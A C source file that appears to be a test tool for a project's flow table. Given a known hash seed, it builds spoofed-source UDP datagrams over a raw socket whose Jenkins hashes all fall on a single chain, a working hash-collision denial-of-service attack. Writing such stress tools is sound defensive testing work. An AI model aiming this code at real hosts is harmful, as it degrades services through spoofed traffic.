// SPDX-License-Identifier: GPL-2.0
/*
 * collide.c - datagrams of an attacker who knows the seed of the table: their
 * flows all fall on one chain.
 *
 *   collide SEED BITS COUNT TO PORT
 *
 * COUNT datagrams to PORT of TO, from made-up addresses in 10.66.0.0/16, of
 * which the hashes (src/tuple.h) begin with BITS zeroes. Little-endian hosts.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static uint32_t rol(uint32_t x, int by)
{
	return x << by | x >> (32 - by);
}

/* Bob Jenkins's lookup3 of three words, which is what jhash_3words() is */
static uint32_t jenkins(uint32_t a, uint32_t b, uint32_t c, uint32_t seed)
{
	uint32_t init = seed + 0xdeadbeef + 12;

	a += init;
	b += init;
	c += init;
	c = (c ^ b) - rol(b, 14);
	a = (a ^ c) - rol(c, 11);
	b = (b ^ a) - rol(a, 25);
	c = (c ^ b) - rol(b, 16);
	a = (a ^ c) - rol(c, 4);
	b = (b ^ a) - rol(a, 14);
	return (c ^ b) - rol(b, 24);
}

/* Of the canonical key: addresses in the order of their raw values */
static uint32_t hash(uint32_t src, uint32_t dst, uint16_t sport,
		     uint16_t dport, uint32_t seed)
{
	uint32_t kind = IPPROTO_UDP;

	return src > dst ?
	       jenkins(dst, src, dport | (uint32_t)sport << 16, seed ^ kind) :
	       jenkins(src, dst, sport | (uint32_t)dport << 16, seed ^ kind);
}

struct datagram {
	struct iphdr ip;
	struct udphdr udp;
};

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct datagram d = {
		.ip = {
			.version = 4, .ihl = 5, .ttl = 64,
			.protocol = IPPROTO_UDP,
			.tot_len = htons(sizeof(d)),
		},
		.udp.len = htons(sizeof(d.udp)),
	};
	uint32_t seed, bits, count, sent = 0, n;
	int fd;

	if (argc != 6)
		errx(2, "usage: collide SEED BITS COUNT TO PORT");
	seed = strtoul(argv[1], NULL, 0);
	bits = atoi(argv[2]);
	count = atoi(argv[3]);
	if (bits < 1 || bits > 24 || inet_aton(argv[4], &to.sin_addr) != 1)
		errx(2, "BITS are 1 to 24, TO is an address");
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		err(1, "socket");
	d.ip.daddr = to.sin_addr.s_addr;
	d.udp.dest = htons(atoi(argv[5]));
	for (n = 0; sent < count && n < 1u << 31; n++) {
		d.ip.saddr = htonl(0x0a420000 | (n & 0xffff));
		d.udp.source = htons(1024 + (n >> 16));
		if (hash(d.ip.saddr, d.ip.daddr, d.udp.source, d.udp.dest,
			 seed) >> (32 - bits))
			continue;
		if (sendto(fd, &d, sizeof(d), 0, (struct sockaddr *)&to,
			   sizeof(to)) != sizeof(d))
			err(1, "sendto");
		sent++;
	}
	printf("%u of %u tries\n", sent, n);
	return sent < count;
}
